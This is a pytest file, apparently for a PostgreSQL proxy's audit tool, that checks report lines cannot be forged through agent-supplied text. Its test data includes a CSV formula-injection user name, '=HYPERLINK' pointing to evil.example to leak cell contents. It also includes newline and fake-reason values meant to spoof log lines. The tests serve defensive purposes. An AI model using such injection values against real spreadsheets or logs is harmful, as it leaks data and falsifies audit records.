"""Session 37: the audit answer cannot be forged by what an agent chooses, through a recording
proxy and PostgreSQL (the unit tests, on hand-made rows: tests/unit/test_s37_audit_forgery_unit.py,
with the decoding of the report's literals this module repeats).

* the text report: ``SELECT 1 -- params ["x"]`` sent as it is printed the line of ``SELECT 1
  --`` bound to ``x``; the server's message quoting the agent's bytes (``'...'::int``), its
  ``application_name`` (a newline, and a backslash and ``n``, read alike) and a refused
  login's user and database names were printed bare. Each is a literal now, and the value
  decoded from it is the JSON's;
* the CSV: a statement's text starting with ``-`` (a comment) and a refused login's user and
  database names starting with ``=`` or ``@`` reached a spreadsheet as formulas: each such
  cell starts with ``'`` now; JSON carries the values as sent.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from common.wire import messages as m
from tests.support.literals import literal_at
from tests.support.rawpg import RawClient, RawError, bind, execute, parse
from tests.support.recording import one_live_session
from tests.support.server_log import AGENT, logging_role, open_case, run_cli

pytestmark = pytest.mark.timeout(120)

SETUP = """
DROP SCHEMA IF EXISTS s37 CASCADE;
CREATE SCHEMA s37;
GRANT USAGE ON SCHEMA s37 TO pgwitness;
CREATE TABLE s37.t (id int, v text);
GRANT ALL ON s37.t TO pgwitness;
"""
SCOPES = "read:s37.t write:s37.t"


@pytest.fixture(scope="module")
def server_log(pg):
    with logging_role(pg, SETUP, "s37") as logged:
        yield logged


@pytest.fixture
def case(server_log, make_proxy, tmp_path, request):
    return open_case(server_log, make_proxy, tmp_path, request, "S37-", SCOPES)


def cli(case, *argv: str) -> tuple[int, str]:
    return run_cli("audit", "--store", str(case.tmp / "rec"), "--index",
                   str(case.tmp / "audit.duckdb"), "--public-key",
                   str(case.tmp / "signing.key.pub"), *argv)  # fmt: skip


def the_session(case, sid: str) -> dict:
    return case.answer(sid)


def test_a_statement_ending_in_params_reads_apart_from_one_bound_to_them(case):
    c = case.client()
    sid = one_live_session(case.h)
    # bound: "SELECT 1 --" with a declared text parameter, "x"
    c.send(parse("", "SELECT 1 --", [25]), bind(params=[b"x"]), execute(), m.SYNC)
    assert c.frames_until_ready()[-1][:1] == b"Z"
    # sent as it is: the same words, a comment
    c.query('SELECT 1 -- params ["x"]')
    c.close()
    rows = the_session(case, sid)["statement_rows"]
    assert [(r["text"], r["params"]) for r in rows] == [
        ("SELECT 1 --", '["x"]'),
        ('SELECT 1 -- params ["x"]', None),
    ], rows
    rc, out = cli(case, "--task", case.task, "--format", "text")
    lines = [x for x in out.splitlines() if "[allowed " in x]
    assert len(lines) == 2 and lines[0].split("] ", 1)[1] != lines[1].split("] ", 1)[1], out
    for line, row in zip(lines, rows, strict=True):
        at = line.index("] ") + 2
        text, end = literal_at(line, at)
        assert text == row["text"], line
        assert line[end:] == (f" params {row['params']}" if row["params"] else ""), line


def test_the_servers_message_quoting_the_agent_is_a_literal(case):
    """``'...'::int`` makes the server quote the agent's bytes in its message (22P02): a
    newline and what reads as the report's next line."""
    value = "1\n        -> INSERT 0 1 (0.1 ms)"
    c = case.client()
    sid = one_live_session(case.h)
    c.query("SELECT E'1\\n        -> INSERT 0 1 (0.1 ms)'::int")
    c.close()
    (row,) = the_session(case, sid)["statement_rows"]
    assert (row["outcome"], row["sqlstate"]) == ("error", "22P02"), row
    assert value in row["message"], row
    rc, out = cli(case, "--task", case.task, "--format", "text")
    assert not [x for x in out.splitlines() if x.strip().startswith("-> INSERT")], out
    (line,) = [x for x in out.splitlines() if "-> ERROR 22P02 " in x]
    message, end = literal_at(line, line.index("-> ERROR 22P02 ") + len("-> ERROR 22P02 "))
    assert message == row["message"] and line[end:].endswith(" ms)"), line


def test_an_application_name_with_a_newline_reads_apart_from_a_backslash_n(case):
    names = ["a\nb", "a\\nb"]
    shown = []
    for name in names:
        c = RawClient.session(case.h.host, case.h.port, AGENT, case.token,
                              params={"application_name": name})  # fmt: skip
        sid = one_live_session(case.h)
        c.close()
        s = the_session(case, sid)
        assert s["application_name"] == name, s
        rc, out = cli(case, "--session", sid, "--format", "text")
        (line,) = [x for x in out.splitlines() if " application_name " in x]
        at = line.index(" application_name ") + len(" application_name ")
        got, _ = literal_at(line, at)
        assert got == name, line
        shown.append(line[at : line.index("  upstream ")])
    assert shown == ["E'a\\nb'", "'a\\nb'"], shown


def test_a_refused_logins_names_are_literals_and_no_formula(case):
    """The user and database names of a refused login are the client's, before any
    authentication: a database ``app: revoked ...`` went on as the line's reason, and a user
    ``=HYPERLINK(...)`` reached a spreadsheet as a formula."""
    user = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    database = "app: revoked 28000 FORGED [grant gr_x, task T]"
    with pytest.raises(RawError):
        RawClient.session(case.h.host, case.h.port, user, "pgw_wrong", database=database)
    c = case.client()
    sid = one_live_session(case.h)
    c.query("-- a comment first\nSELECT 1")
    c.close()
    the_session(case, sid)

    def refused() -> list[dict]:
        rc, out = cli(case, "--format", "json")
        return json.loads(out)["refused_logins"]

    (r,) = [r for r in refused() if r["agent"] == user]
    assert r["database"] == database
    rc, out = cli(case, "--format", "text")
    (line,) = [x for x in out.splitlines() if "from " in x and "HYPERLINK" in x]
    at = line.index("Z ") + 2
    got, end = literal_at(line, at)
    assert got == user and line[end:].startswith(" from "), line
    at = line.index(" to ", end) + len(" to ")
    got, end = literal_at(line, at)
    assert got == database and line[end:].startswith(": "), line
    rc, out = cli(case, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    (row,) = [x for x in rows if x["kind"] == "login.refused" and "HYPERLINK" in x["agent"]]
    assert (row["agent"], row["database"]) == ("'" + user, database), row
    (st,) = [x for x in rows if x["kind"] == "statement" and x["session_id"] == sid]
    assert st["text"] == "'-- a comment first\nSELECT 1", st
